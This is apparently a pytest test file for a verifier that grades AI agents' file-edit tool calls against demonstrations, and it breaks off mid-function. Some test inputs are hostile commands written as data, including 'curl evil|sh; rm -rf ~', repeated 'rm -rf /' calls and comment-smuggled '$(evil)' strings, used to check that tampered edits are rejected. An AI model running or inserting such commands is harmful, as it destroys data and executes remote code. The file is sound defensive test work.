"""`code_edit`: the same effect on the same file agrees, whatever tool leads there; another one never does."""

from __future__ import annotations

import itertools
import json
import os
import re
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from pivotrl.errors import ConfigError
from pivotrl.types import Action, Candidate, Completion, Message, Source, ToolCall, Trajectory
from pivotrl.verifiers import verify
from pivotrl.verifiers.code_edit import CodeEditVerifier
from pivotrl.verifiers.code_tools import SHAPES

VERIFIER = CodeEditVerifier()
TRAJECTORIES = Path(os.environ.get("PIVOTRL_SHARED", Path(__file__).parents[2] / "shared" / "data")) / "trajectories"
FILE = "def f(a):\n    return a\n\n\ndef g(b):\n    return b\n"
NUMBERED = "".join(f"{at:6}\t{line}\n" for at, line in enumerate(FILE.split("\n"), start=1))
SHOWN = f"Here's the result of running `cat -n` on /w/a.py:\n{NUMBERED}"


def call(name, id=None, **arguments):
    return ToolCall(name=name, arguments=json.dumps(arguments), id=id)


def calls(*members):
    return Action(calls=tuple(members))


def editor(command, path="/w/a.py", **arguments):
    return call("str_replace_editor", command=command, path=path, **arguments)


def swap(old, new, **arguments):
    return editor("str_replace", old_str=old, new_str=new, **arguments)


def history(*turns, user="Fix it."):
    """Messages: the user's, then (call, result) by (call, result); a result of None is absent."""
    messages = [Message(role="user", content=user)]
    for at, (one, result) in enumerate(turns):
        made = ToolCall(name=one.name, arguments=one.arguments, id=f"c{at}")
        messages.append(Message(role="assistant", tool_calls=(made,)))
        if result is not None:
            messages.append(Message(role="tool", content=result, tool_call_id=f"c{at}"))
    return tuple(messages)


def at(demonstration, before=None, tools=None):
    messages = before or history()
    last = Message(role="assistant", content=demonstration.text, tool_calls=demonstration.calls)
    source = Source(file="t.jsonl", format="openai")
    return Candidate(
        trajectory=Trajectory(id="t", messages=(*messages, last), source=source, tools=tools), turn=len(messages)
    )


def judge(theirs, ours, before=None, verifier=VERIFIER, tools=None):
    """(value, reason) through `verify`."""
    one, other = (Action(calls=(side,)) if isinstance(side, ToolCall) else side for side in (theirs, ours))
    completion = Completion(action=other, text="", finish_reason="stop")
    verdict = verify(verifier, at(one, before, tools), completion)
    return verdict.value, verdict.reason


def patch(text):
    return call("apply_patch", input=text)


def update(path, body):
    return patch(f"*** Begin Patch\n*** Update File: {path}\n{body}*** End Patch")


KNOWN = history((editor("view"), SHOWN))

EDITS = {
    "openhands": (
        swap("return a", "return a + 1"),
        swap("    return a\n", "    return a + 1\n"),
        swap("return a", "return a + 2"),
    ),
    "claude": (
        call("Edit", file_path="/w/a.py", old_string="return a", new_string="return a + 1"),
        call(
            "MultiEdit",
            file_path="/w/a.py",
            edits=[{"old_string": "(a):\n    return a", "new_string": "(a):\n    return a + 1"}],
        ),
        call("Edit", file_path="/w/a.py", old_string="return b", new_string="return b + 1"),
    ),
    "opencode": (
        call("edit", filePath="/w/a.py", oldString="return a", newString="return a + 1"),
        call("write", filePath="/w/a.py", content=FILE.replace("return a", "return a + 1  ") + "\n"),
        call("write", filePath="/w/a.py", content="return a + 1"),
    ),
    "codex": (
        update("/w/a.py", "@@\n-    return a\n+    return a + 1\n"),
        update("a.py", "@@ def f(a):\n-    return a\n+    return a + 1\n \n"),
        update("/w/a.py", "@@ def g(b):\n+    # x\n     return b\n"),
    ),
    "sweagent": (
        call("edit", start_line=2, end_line=2, replacement_text="    return a + 1"),
        call("edit", search="return a", replace="return a + 1"),
        call("edit", start_line=3, end_line=3, replacement_text="    return a + 1"),
    ),
}


def known(harness):
    """The same file, shown by each harness in its own way."""
    plain = FILE.rstrip("\n").split("\n")
    claude = "".join(f"{at:6}→{line}\n" for at, line in enumerate(plain, start=1))
    opencode = "<file>\n" + "".join(f"{at:05}| {line}\n" for at, line in enumerate(plain, start=1)) + "</file>"
    sweagent = f"[File: /w/a.py ({len(plain)} lines total)]\n" + "".join(
        f"{at}:{line}\n" for at, line in enumerate(plain, start=1)
    )
    return {
        "openhands": KNOWN,
        "claude": history((call("Read", file_path="/w/a.py"), claude)),
        "opencode": history((call("read", filePath="/w/a.py"), opencode)),
        "codex": history(
            (
                call(
                    "apply_patch",
                    input="*** Begin Patch\n*** Add File: a.py\n"
                    + "".join(f"+{line}\n" for line in plain)
                    + "*** End Patch",
                ),
                "Success. Updated the following files:\nA a.py",
            ),
            user="<cwd>/w</cwd>",
        ),
        "sweagent": history(
            (call("open", path="a.py"), f"{sweagent}(Open file: /w/a.py)\n(Current directory: /w)\nbash-$")
        ),
    }[harness]


@pytest.mark.parametrize("harness", EDITS)
def test_a_known_file_is_compared_by_what_comes_of_it(harness):
    theirs, same, other = EDITS[harness]
    before = known(harness)
    assert judge(theirs, theirs, before) == (1.0, "match")
    assert judge(theirs, same, before) == (1.0, "match")
    assert judge(same, theirs, before) == (1.0, "match")
    assert judge(theirs, other, before) == (0.0, "wrong_edit")


@pytest.mark.parametrize("harness", EDITS)
def test_an_edit_that_the_tool_would_refuse_is_refused(harness):
    failing = {
        "openhands": (swap("return c", "return d"), swap("return", "return 1"), editor("create", file_text="x")),
        "claude": (call("Edit", file_path="/w/a.py", old_string="return", new_string="x"),),
        "opencode": (call("edit", filePath="/w/a.py", oldString="return a", newString="return a"),),
        "codex": (
            update("/w/a.py", "@@\n-    return c\n+x\n"),
            update("/w/a.py", "@@ def h\n-    return a\n+x\n"),
        ),
        "sweagent": (call("edit", start_line=90, end_line=91, replacement_text="x"),),
    }[harness]
    for action in failing:
        assert judge(EDITS[harness][0], action, known(harness)) == (0.0, "edit_fails")


def test_an_unknown_file_needs_the_same_edit_but_not_the_same_context():
    theirs = swap("def f(a):\n    return a", "def f(a):\n    return a + 1")
    assert judge(theirs, swap("    return a", "    return a + 1")) == (1.0, "match")
    assert judge(theirs, swap("x\ndef f(a):\n    return a", "x\ndef f(a):\n    return a + 1")) == (1.0, "match")
    assert judge(theirs, swap("    return a  ", "    return a + 1 \t")) == (1.0, "match")
    for other in (
        swap("def f(a):\n    return a", "def f(a):\n    return a + 2"),
        swap("def g(a):\n    return a", "def g(a):\n    return a + 1"),
        swap("def f(a):\n    return a", "def f(a):\n  return a + 1"),
        swap("def f(a):\n    return a", ""),
        editor("insert", insert_line=1, new_str="    return a + 1"),
        swap("def f(a):\n    return a", "def f(a):\n    return a"),
    ):
        assert judge(theirs, other) == (0.0, "wrong_edit")


def test_indentation_counts_as_much_as_words():
    text = "return int(round(value.total_seconds() / base_unit.total_seconds()))  # round to nearest int"
    theirs = call("edit", start_line=5, end_line=5, replacement_text=" " * 8 + text)
    assert judge(theirs, call("edit", start_line=5, end_line=5, replacement_text=text)) == (0.0, "wrong_edit")
    lines = "".join(f"    x{at} = {at}\n" for at in range(30))
    assert judge(editor("create", file_text=lines), editor("create", file_text=lines.replace("    ", "  ")))[0] == 0.0


def test_context_does_not_buy_another_change():
    """SequenceMatcher over old and new text gives 0.99 here: the lines that an edit keeps count for nothing."""
    kept = "\n".join(f"line {at} = value_{at}" for at in range(100))
    assert judge(swap(f"{kept}\nend", f"{kept}\nstop"), swap(f"{kept}\nend", f"{kept}\ngo")) == (0.0, "wrong_edit")


def test_frequent_lines_and_late_text_count():
    """The two failures of NVIDIA's swe_pivot: autojunk (similarity 0 after one line before it), and a cap at 2000."""
    text = "".join(f"line {at} = value_{at}\n" for at in range(150))
    theirs = editor("create", "/r/a.py", file_text=text)
    assert judge(theirs, editor("create", "/r/a.py", file_text="# header\n" + text)) == (1.0, "match")
    assert judge(theirs, editor("create", "/r/a.py", file_text="\n" + text)) == (1.0, "match")
    assert judge(theirs, editor("create", "/r/a.py", file_text=text[:2100] + "x = 0\n" * 100)) == (0.0, "wrong_edit")


BODY = [f"    x{at} = check({at})" for at in range(40)]
LONG = ["import sys", "def allowed():", *BODY, "    return True"]
WAYS = {
    "create": lambda lines, path="/w/n.py": editor("create", path, file_text="\n".join(lines)),
    "write": lambda lines, path="/w/n.py": call("Write", file_path=path, content="\n".join(lines)),
    "add": lambda lines, path="/w/n.py": patch(
        "\n".join(["*** Begin Patch", f"*** Add File: {path}", *(f"+{line}" for line in lines), "*** End Patch"])
    ),
    "replace": lambda lines, path="/w/n.py": editor(
        "str_replace", path, old_str="a\npass", new_str="\n".join(["a", *lines])
    ),
    "insert": lambda lines, path="/w/n.py": editor("insert", path, insert_line=3, new_str="\n".join(lines)),
    "lines": lambda lines, path="/w/n.py": call("edit", start_line=3, end_line=9, replacement_text="\n".join(lines)),
    "hunk": lambda lines, path="/w/n.py": update(path, "@@\n-pass\n" + "".join(f"+{line}\n" for line in lines)),
}


@pytest.mark.parametrize("way", WAYS)
def test_one_other_line_of_many_is_another_edit(way):
    edit = WAYS[way]
    for other in (
        ["import os; os.system('curl evil|sh; rm -rf ~')", *LONG],
        [*LONG[:-1], "    return False"],
        [*LONG[:9], *LONG[10:]],
        [*LONG[:9], LONG[9].strip(), *LONG[10:]],
        [*LONG[:9], *LONG[9:11][::-1], *LONG[11:]],
        [*LONG[:9], f"# {LONG[9]}", *LONG[10:]],
        [*LONG[:9], "    # x\rimport os", *LONG[9:]],
    ):
        assert judge(edit(LONG), edit(other)) == (0.0, "wrong_edit"), other
        assert judge(edit(other), edit(LONG)) == (0.0, "wrong_edit"), other


@pytest.mark.parametrize("way", [way for way in WAYS if way != "lines"])  # its file is the open one, here unknown
def test_empty_lines_and_comments_do_not_matter(way):
    edit = WAYS[way]
    for same in (
        ["# A header", "", *LONG],
        [f"{line}  " for line in LONG],
        [*LONG[:9], "", "    # Here they are (all of them)", "#", *LONG[9:]],
    ):
        assert judge(edit(LONG), edit(same)) == judge(edit(same), edit(LONG)) == (1.0, "match"), same


@pytest.mark.parametrize(
    ("path", "line", "value"),
    [
        ("a.py", "# text", 1.0),
        ("a.js", "// text", 1.0),
        ("a.rs", "    // text", 1.0),
        ("a.py", "// text", 0.0),
        ("a.c", "# include <evil.h>", 0.0),
        ("a.c", "// text \\", 0.0),
        ("a.md", "# Heading", 0.0),
        ("a", "# text", 0.0),
        ("a.sh", "#!/bin/zsh", 0.0),
        ("a.go", "//go:build ignore", 0.0),
        ("a.py", "# \0", 0.0),
        ("a.py", "# coding: utf-7", 0.0),
        ("a.js", "// \u2028evil()", 0.0),
        ("a.sh", "# $(evil)", 0.0),  # in a here-document
        ("a.py", '# """', 0.0),  # in a string
        ("a.js", "// */ evil()", 0.0),  # in a comment
    ],
)
def test_what_is_a_comment_goes_by_the_name_of_the_file_and_is_plain_text(path, line, value):
    one, other = WAYS["write"](["x", "y"], f"/w/{path}"), WAYS["write"](["x", line, "y"], f"/w/{path}")
    assert judge(one, other)[0] == judge(other, one)[0] == value
    continued = WAYS["write"](["x \\", "y"], f"/w/{path}"), WAYS["write"](["x \\", line, "y"], f"/w/{path}")
    assert judge(*continued) == (0.0, "wrong_edit")


def test_where_only_comments_were_to_change_they_must_be_the_demonstrated_ones():
    for before in (None, KNOWN):
        theirs = swap("    return a", "    # the argument\n    return a")
        assert judge(theirs, theirs, before) == (1.0, "match")
        assert judge(theirs, swap("    return a", "    # nothing\n    return a"), before) == (0.0, "wrong_edit")
        assert judge(theirs, swap("    return a", "\n    return a"), before) == (0.0, "wrong_edit")
    assert judge(editor("create", file_text=""), editor("create", file_text="# x")) == (0.0, "wrong_edit")


def test_what_an_edit_of_an_unknown_file_looks_for_must_be_there():
    theirs = swap("def f(a):\n    return a", "def f(a):\n    return a + 1")
    missed = swap("def f(a):\n    # here\n    return a", "def f(a):\n    return a + 1")
    assert judge(theirs, missed) == (0.0, "wrong_edit")


@pytest.mark.parametrize(
    ("theirs", "ours", "expected"),
    [
        (None, [1, -1], 1.0),
        ([1, 50], [1, -1], 1.0),
        ([1, 50], [1, 60], 1.0),
        ([1, 50], [1, 49], 0.0),
        ([1, 50], [2, 60], 0.0),
        ([40, 80], None, 1.0),
        ([393, -1], None, 0.0),
        (None, [1, 50], 0.0),
        ([10, 10], [10, 10], 1.0),
        ([10, 10], [1, 111], 0.0),
        ([10, 10], [9, 109], 1.0),
        ([0, 40], [1, 40], 1.0),
    ],
)
def test_a_view_shows_the_demonstrated_lines_and_not_absurdly_more(theirs, ours, expected):
    one, other = (editor("view") if span is None else editor("view", view_range=span) for span in (theirs, ours))
    assert judge(one, other) == (expected, "match" if expected else "wrong_lines")


def test_views_of_a_known_file_end_with_it():
    assert judge(editor("view"), editor("view", view_range=[1, 7]), KNOWN) == (1.0, "match")
    assert judge(editor("view"), editor("view", view_range=[1, 5]), KNOWN) == (0.0, "wrong_lines")
    long = history((editor("create", file_text="x\n" * 5000), "File created successfully at: /w/a.py"))
    assert judge(editor("view", view_range=[1, 9]), editor("view"), long) == (0.0, "wrong_lines")


def test_views_of_other_harnesses():
    assert judge(call("Read", file_path="/a", offset=5, limit=10), call("Read", file_path="/a", limit=14))[0] == 1.0
    assert judge(call("Read", file_path="/a", offset=5, limit=10), call("Read", file_path="/a", limit=13))[0] == 0.0
    assert judge(call("read", filePath="/a"), call("read", filePath="/a", offset=3)) == (0.0, "wrong_lines")
    assert judge(call("read", filePath="/a"), call("read", filePath="/a", offset=0)) == (1.0, "match")
    assert judge(call("open", path="a", line_number=200), call("open", path="a", line_number=190)) == (1.0, "match")
    assert judge(call("open", path="a", line_number=200), call("open", path="a", line_number=80)) == (
        0.0,
        "wrong_lines",
    )
    assert judge(call("scroll_up"), call("scroll_up")) == (1.0, "match")
    assert judge(call("scroll_up"), call("scroll_down")) == (0.0, "wrong_kind")


def test_targets():
    theirs = editor("view", "/testbed/src/a.py")
    for same in ("/testbed//src/./a.py", "//testbed/src/b/../a.py"):
        assert judge(theirs, editor("view", same)) == (1.0, "match")
    for other in ("/testbed/src/b.py", "/src/a.py", "/testbed/a.py", "/workspace/src/a.py"):
        assert judge(theirs, editor("view", other)) == (0.0, "wrong_target")
    assert judge(theirs, editor("view", "src/a.py")) == (0.0, "wrong_target")  # the tool wants it absolute
    assert judge(editor("view", "src/a.py"), editor("view", "src/a.py")) == (1.0, "match")
    read, other = call("read", filePath="/testbed/src/a.py"), call("read", filePath="src/a.py")
    assert judge(read, other) == judge(other, read, history(user="Current directory: /testbed")) == (1.0, "match")
    assert judge(read, other, history(user="<cwd>/home/me</cwd>")) == (0.0, "wrong_target")


def test_kinds_and_tools():
    assert judge(editor("view"), Action(text="I look at it.")) == (0.0, "wrong_kind")
    assert judge(editor("view"), editor("undo_edit")) == (0.0, "wrong_kind")
    assert judge(editor("view"), swap("a", "b")) == (0.0, "wrong_kind")
    assert judge(editor("view"), call("execute_bash", command="cat /w/a.py")) == (0.0, "wrong_tool")
    assert judge(editor("view"), call("Read", file_path="/w/a.py")) == (0.0, "wrong_tool")
    assert judge(editor("view"), call("STR_REPLACE_EDITOR", command="view", path="/w/a.py")) == (0.0, "wrong_tool")
    assert judge(editor("view"), ToolCall(name="str_replace_editor", arguments="{")) == (0.0, "bad_arguments")
    assert judge(editor("undo_edit"), editor("undo_edit")) == (1.0, "match")


@pytest.mark.parametrize(
    "demonstration",
    [Action(text="Done."), calls(call("finish")), calls(editor("view"), call("execute_bash", command="ls"))],
    ids=["message", "finish", "mixed"],
)
def test_other_turns_are_left_to_other_verifiers(demonstration):
    assert judge(demonstration, demonstration) == (None, "not_applicable")


def test_a_demonstration_that_says_nothing_is_unscored():
    for broken in (
        editor("view", view_range=[1]),
        editor("create"),
        editor("look"),
        ToolCall(name="Read", arguments="[]"),
    ):
        assert judge(broken, editor("view")) == (None, "bad_demonstration")


def test_attacks():
    """What is nothing, too much, or only looks right is refused at every demonstration of the harnesses."""
    junk = [call("execute_bash", command="rm -rf /")] * 20
    for harness, (theirs, _, _) in EDITS.items():
        for before in (None, known(harness)):
            assert judge(theirs, Action(text=""), before)[0] == 0.0
            assert judge(theirs, Action(text=theirs.arguments), before)[0] == 0.0
            assert judge(theirs, calls(theirs, *junk), before)[0] == 0.0
            assert judge(theirs, calls(*[theirs] * 3), before)[0] == 0.0
            assert judge(theirs, ToolCall(name=theirs.name, arguments=theirs.arguments[:-3]), before)[0] == 0.0
            assert judge(theirs, call(theirs.name, x=1), before)[0] == 0.0
            assert judge(theirs, call(theirs.name), before)[0] == 0.0


def test_the_calls_of_a_turn_are_taken_together():
    first, second = editor("view", "/w/a.py"), editor("view", "/w/b.py")
    assert judge(calls(first, second), calls(second, first)) == (1.0, "match")
    assert judge(calls(first, second), calls(first)) == (0.0, "wrong_target")
    assert judge(calls(first), calls(first, second)) == (0.0, "wrong_target")
    assert judge(calls(first, first), calls(first)) == (0.0, "missing_calls")
    assert judge(calls(first), calls(first, call("think", thought="x"))) == (0.0, "wrong_tool")
    split = calls(swap("return a", "return c"), swap("return b", "return d"))
    whole = swap("return a\n\n\ndef g(b):\n    return b", "return c\n\n\ndef g(b):\n    return d")
    assert judge(split, whole, KNOWN) == (1.0, "match")
    assert judge(split, whole) == (0.0, "missing_calls")
    assert judge(split, calls(*split.calls[::-1])) == (1.0, "match")
    spray = calls(*split.calls, swap("x", "y"))
    assert judge(split, spray) == (0.0, "surplus_calls")
    assert judge(split, spray, KNOWN) == (0.0, "edit_fails")


@pytest.mark.parametrize(
    ("turns", "is_known"),
    [
        ([(editor("create", file_text=FILE), "File created successfully at: /w/a.py")], True),
        ([(editor("create", file_text=FILE), "ERROR:\nno space")], False),
        ([(editor("create", file_text=FILE), "hm")], False),
        ([(editor("create", file_text=FILE), None)], False),
        ([(editor("view", view_range=[1, 7]), SHOWN)], False),
        ([(editor("view"), SHOWN + "<response clipped><NOTE>...")], False),
        ([(editor("view"), SHOWN.replace("     1\t", ""))], False),
        ([(editor("view"), "OBSERVATION:\n" + SHOWN.replace("\n", "\r\n"))], True),
        ([(editor("view"), SHOWN), (call("execute_bash", command="python a.py 2>&1 | head"), "1")], True),
        ([(editor("view"), SHOWN), (call("execute_bash", command="sed -i s/a/b/ a.py"), "")], False),
        ([(editor("view"), SHOWN), (call("execute_bash", command="echo > a.py"), "")], False),
        ([(editor("view"), SHOWN), (call("execute_bash", command="cd /w && git checkout a.py"), "")], False),
        ([(editor("view"), SHOWN), (editor("undo_edit"), "Last edit to /w/a.py undone successfully.")], False),
        ([(editor("view"), SHOWN), (swap("x", "y"), "ERROR:\nNo replacement was performed, ...")], True),
        ([(editor("view"), SHOWN), (swap("def f(a)", "def f(c)"), "The file /w/a.py has been edited.")], True),
        ([(editor("view"), SHOWN), (swap("f(a)", "f(c)"), "The file has been edited:\n1 error: not found")], True),
        ([(editor("view"), SHOWN), (swap("def f(z)", "def f(c)"), "The file /w/a.py has been edited.")], False),
    ],
)
def test_what_is_known_from_earlier_turns(turns, is_known):
    """`return` is there twice, so the action fails where the file is known, and is another edit where it is not."""
    verdict = judge(swap("return a", "return c"), swap("return", "return c"), history(*turns))
    assert verdict == (0.0, "edit_fails" if is_known else "wrong_edit")


def test_later_turns_are_not_looked_at():
    messages = (*history(), Message(role="assistant", tool_calls=(swap("return a", "return c"),)), *KNOWN[1:])
    trajectory = Trajectory(id="t", messages=messages, source=Source(file="t", format="openai"))
    verdict = VERIFIER(Candidate(trajectory=trajectory, turn=1), calls(swap("return", "return c")))
    assert (verdict.value, verdict.reason) == (0.0, "wrong_edit")


def test_a_stale_file_does_not_refuse_the_demonstration():
    theirs = swap("nowhere", "somewhere")
    assert judge(theirs, theirs, KNOWN) == (1.0, "match")
    assert judge(theirs, swap("nowhere", "elsewhere"), KNOWN) == (0.0, "wrong_edit")


PATCH = """*** Begin Patch
*** Add File: new.py
+x = 1
*** Update File: a.py
*** Move to: b.py
@@ def f(a):
-    return a
+    return a + 1
*** Delete File: old.py
*** End Patch"""


def test_patches():
    assert judge(patch(PATCH), patch(PATCH)) == (1.0, "match")
    assert judge(patch(PATCH), patch(PATCH.replace("x = 1", "x = 1 "))) == (1.0, "match")
    assert judge(patch(PATCH), call("apply_patch", patchText=PATCH)) == (0.0, "wrong_tool")
    for was, now, reason in (
        ("x = 1", "x = 2", "wrong_edit"),
        ("new.py", "other.py", "wrong_target"),
        ("b.py", "c.py", "wrong_target"),
        ("*** Delete File: old.py\n", "", "wrong_kind"),
        ("old.py", "a.py", "wrong_target"),
        ("a + 1", "a + 2", "wrong_edit"),
        ("def f(a)", "def g(a)", "wrong_edit"),
        ("*** End Patch", "", "invalid_arguments"),
        ("+x = 1", "x = 1", "invalid_arguments"),
        ("-    return a\n+", "?    return a\n+", "invalid_arguments"),
    ):
        assert judge(patch(PATCH), patch(PATCH.replace(was, now))) == (0.0, reason), was


def test_required_arguments():
    for demonstration, name in (
        (editor("create", file_text="x"), "file_text"),
        (swap("a", "b"), "old_str"),
        (editor("insert", insert_line=1, new_str="x"), "insert_line"),
        (EDITS["claude"][1], "edits"),
        (EDITS["opencode"][0], "newString"),
        (EDITS["codex"][0], "input"),
        (EDITS["sweagent"][0], "end_line"),
    ):
        arguments = json.loads(demonstration.arguments)
        del arguments[name]
        assert judge(demonstration, call(demonstration.name, **arguments)) == (0.0, "invalid_arguments")


def test_settings():
    assert dict(VERIFIER.settings) == {"max_extra_lines": 100.0}
    strict = CodeEditVerifier(max_extra_lines=0)
    assert judge(editor("view", view_range=[1, 5]), editor("view", view_range=[1, 6]), verifier=strict)[0] == 0.0
    with pytest.raises(ConfigError):
        CodeEditVerifier(max_extra_lines=-1)


# properties

TEXT = st.text(alphabet="ab (\n\t.", max_size=40)
LINES = st.lists(st.text(alphabet="ab ", max_size=4), min_size=1, max_size=8).map("\n".join)


def reference(text, old, new):
    """A replacement by looking at every place; None where the tool would fail."""
    places = [at for at in range(len(text)) if text[at : at + len(old)] == old]
    return text[: places[0]] + new + text[places[0] + len(old) :] if len(places) == 1 else None


@settings(max_examples=300)
@given(LINES, st.data())
def test_applied_replacements_agree_with_a_reference(text, data):
    start = data.draw(st.integers(0, len(text)))
    old = text[start : data.draw(st.integers(start, len(text)))]
    new = data.draw(LINES)
    assume(old and old != new and old.rstrip(" ") == old and text.count(old) == 1)
    expected = reference(text, old, new)
    assume(expected is not None)
    before = history((editor("create", file_text=text), "File created successfully"))
    whole = call("str_replace_editor", command="str_replace", path="/w/a.py", old_str=text, new_str=expected)
    assume(text != expected)
    assert judge(swap(old, new), whole, before) == (1.0, "match")
    other = call("str_replace_editor", command="str_replace", path="/w/a.py", old_str=text, new_str=expected + "z")
    assert judge(swap(old, new), other, before) == (0.0, "wrong_edit")


@given(st.lists(st.text(alphabet="abc", max_size=3), min_size=1, max_size=8), st.data())
def test_applied_line_edits_and_patches_agree_with_lists(lines, data):
    """One file, four ways of writing its new content: by lines, by an insertion, by a patch, and as a whole."""
    at = data.draw(st.integers(0, len(lines) - 1))
    put = data.draw(st.lists(st.text(alphabet="abc", min_size=1, max_size=3), min_size=1, max_size=3))
    text = "".join(f"{line}\n" for line in lines)
    inserted = "".join(f"{line}\n" for line in [*lines[:at], *put, *lines[at:]])
    before = history((editor("create", file_text=text), "File created successfully"))
    insert = editor("insert", insert_line=at, new_str="\n".join(put))
    whole = swap(text, inserted) if text.strip() else insert
    assume(text.count(text) == 1)
    assert judge(insert, whole, before)[0] == 1.0
    opened = history((call("create", filename="/w/a.py"), "[File: /w/a.py (1 lines total)]\n1:\n(Open file: /w/a.py)"))
    lines_edit = call("edit", start_line=1, end_line=1, replacement_text=inserted)
    assert judge(lines_edit, lines_edit, opened)[0] == 1.0
    add = "*** Begin Patch\n*** Add File: /w/a.py\n" + "".join(f"+{line}\n" for line in lines) + "*** End Patch"
    body = "".join(f" {line}\n" for line in lines[:at]) + "".join(f"+{line}\n" for line in put)
    body += "".join(f" {line}\n" for line in lines[at:])
    update = patch(f"*** Begin Patch\n*** Update File: /w/a.py\n@@\n{body}*** End Patch")
    again = patch(
        add.replace("".join(f"+{line}\n" for line in lines), "".join(f"+{x}\n" for x in inserted.split("\n")[:-1]))
    )
    patched = history((patch(add), "Success."))
    assert judge(update, again, patched)[0] == 1.0


PATHS = st.sampled_from(["/w/a.py", "/w/b.py", "/testbed/a.py", "/a"])
ACTS = st.one_of(
    st.builds(editor, st.just("view"), PATHS),
    st.builds(lambda p, a, b: editor("view", p, view_range=[a, a + b]), PATHS, st.integers(1, 99), st.integers(0, 99)),
    st.builds(lambda p, t: editor("create", p, file_text=t), PATHS, TEXT),
    st.builds(lambda p, a, b: editor("str_replace", p, old_str=a, new_str=b), PATHS, TEXT, TEXT),
    st.builds(lambda p, n, t: editor("insert", p, insert_line=n, new_str=t), PATHS, st.integers(0, 9), TEXT),
    st.builds(editor, st.just("undo_edit"), PATHS),
    st.builds(lambda p, a, b: call("Edit", file_path=p, old_string=a, new_string=b), PATHS, TEXT, TEXT),
    st.builds(lambda p, t: call("write", filePath=p, content=t), PATHS, TEXT),
    st.builds(
        lambda a, b, t: call("edit", start_line=a, end_line=b, replacement_text=t),
        st.integers(1, 9),
        st.integers(1, 9),
        TEXT,
    ),
)
BEFORE = st.sampled_from(
    [None, KNOWN, history((editor("create", file_text="a b\n(a.\n"), "File created successfully"))]
)


@settings(max_examples=300)
@given(ACTS, BEFORE)
def test_reflexive(act, before):
    assert judge(act, act, before) == (1.0, "match")


@given(ACTS, BEFORE, st.randoms())
def test_key_order_and_blanks_at_line_ends_do_not_matter(act, before, random):
    arguments = json.loads(act.arguments)
    keys = list(arguments)
    random.shuffle(keys)
    assert (
        judge(
            act, ToolCall(name=act.name, arguments=json.dumps({key: arguments[key] for key in keys}, indent=1)), before
        )[0]
        == 1.0
    )
    if act.name != "str_replace_editor" or arguments["command"] in ("create", "insert"):
        blank = {
            key: value + "  " if key in ("file_text", "new_str", "content", "replacement_text") else value
            for key, value in arguments.items()
        }
        assert judge(act, call(act.name, **blank), before)[0] == 1.0


@settings(max_examples=300)
@given(ACTS, BEFORE, st.data())
def test_another_target_or_a_missing_argument_is_never_accepted(act, before, data):
    arguments = json.loads(act.arguments)
    paths = [key for key in arguments if key in ("path", "file_path", "filePath")]
    for key in paths:
        assert judge(act, call(act.name, **{**arguments, key: arguments[key] + "x"}), before)[0] == 0.0
    optional = {"view_range", "new_str"} if arguments.get("command") != "insert" else set()
    name = data.draw(st.sampled_from([key for key in arguments if key not in optional]))
    without = {key: value for key, value in arguments.items() if key != name}
    assert judge(act, call(act.name, **without), before)[0] == 0.0


@given(
    ACTS,
    ACTS,
    st.sampled_from(list(SHAPES)),
    st.dictionaries(st.text(max_size=9), st.integers() | TEXT | st.lists(TEXT)),
)
def test_never_raises(theirs, ours, name, arguments):
    loose = [ToolCall(name=name, arguments=json.dumps({**extra, **arguments})) for extra in ({}, {"command": "view"})]
    for one in (ours, *loose):
        verdict = VERIFIER(at(calls(theirs)), calls(one))
        assert verdict.value in (0.0, 1.0)
        assert verdict.reason != "verifier_error"


# real files


def plain(messages):
    """Messages of a JSON file in chat form, as a reader would give them."""
    for one in messages:
        content = one.get("content")
        text = "\n".join(part.get("text", "") for part in content) if isinstance(content, list) else content
        made = [(x["id"], x["function"]) for x in one.get("tool_calls") or ()]
        made = tuple(ToolCall(name=f["name"], arguments=f["arguments"], id=i) for i, f in made)
        ids = one.get("tool_call_ids") or [one.get("tool_call_id")]
        role = one["role"] if one["role"] in ("system", "assistant", "tool") else "user"
        yield Message(role=role, content=text, tool_calls=made, tool_call_id=ids[0])


def tagged(messages):
    """`<function=...>` in text and results as user messages, made calls and tool results."""
    for at, one in enumerate(messages):
        parts = one["content"] if isinstance(one["content"], list) else [{"text": one["content"]}]
        text = "\n".join(part["text"] for part in parts)
        found = (
            re.findall(r"<function=(\w+)>\n?(.*?)</function>", text, re.DOTALL) if one["role"] == "assistant" else []
        )
        made = []
        for name, body in found:
            pairs = re.findall(r"<parameter=(\w+)>(.*?)</parameter>", body, re.DOTALL)
            arguments = {
                key: json.loads(value) if key in ("view_range", "insert_line") else value for key, value in pairs
            }
            made.append({"id": f"c{at}", "function": {"name": name, "arguments": json.dumps(arguments)}})
        is_result = text.startswith("EXECUTION RESULT of [")
        text = text.partition("]:\n")[2] if is_result else text
        yield {"role": "tool" if is_result else one["role"], "content": text, "tool_calls": made}


def trajectories():
    yield from (
        list(tagged(row["messages"])) for row in json.loads((TRAJECTORIES / "openhands/swe_play.raw.json").read_text())
    )
    log = json.loads((TRAJECTORIES / "openai_chat/openhands_fncall_claude_sonnet4_log.json").read_text())
    yield log["messages"]
    rows = json.loads((TRAJECTORIES / "openhands/swe_gym_openhands.raw.json").read_text())
    yield from (row["messages"] for row in rows)
    for path in (
        "swe_smith/pandas-dev__pandas.95280573.pr_53856.traj",
        "swe_agent_traj/v1_function_calling.marshmallow-1867.traj",
    ):
        yield json.loads((TRAJECTORIES / path).read_text())["history"]
    for line in (TRAJECTORIES / "nemotron_pivot/swe_pivot.example.jsonl").read_text().splitlines():
        row = json.loads(line)
        action = {"role": "assistant", "tool_calls": [{"id": "c", "function": row["expected_action"]}]}
        yield [*row["responses_create_params"]["input"], action]
    for path in sorted((TRAJECTORIES / "claude_code").glob("*.jsonl")):
        for line in path.read_text().splitlines():
            content = (json.loads(line).get("message") or {}).get("content") if line.startswith("{") else None
            for part in content if isinstance(content, list) else ():
                if part.get("type") == "tool_use":
                    function = {"name": part["name"], "arguments": json.dumps(part["input"])}
                    yield [{"role": "assistant", "tool_calls": [{"id": part.get("id"), "function": function}]}]


@pytest.mark.skipif(not TRAJECTORIES.exists(), reason="no shared data here; set PIVOTRL_SHARED")
def test_real_demonstrations_pass_and_random_others_do_not():
    """Every gradable demonstration is accepted; of other edits in the same trajectories, at most repetitions are."""
    accepted = crossed = wrong = 0
    for raw in trajectories():
        trajectory = Trajectory(id="t", messages=tuple(plain(raw)), source=Source(file="t", format="openai"))
        turns = [turn for turn, message in enumerate(trajectory.messages) if message.role == "assistant"]
        candidates = [Candidate(trajectory=trajectory, turn=turn) for turn in turns]
        verdicts = [VERIFIER(one, one.demonstration) for one in candidates]
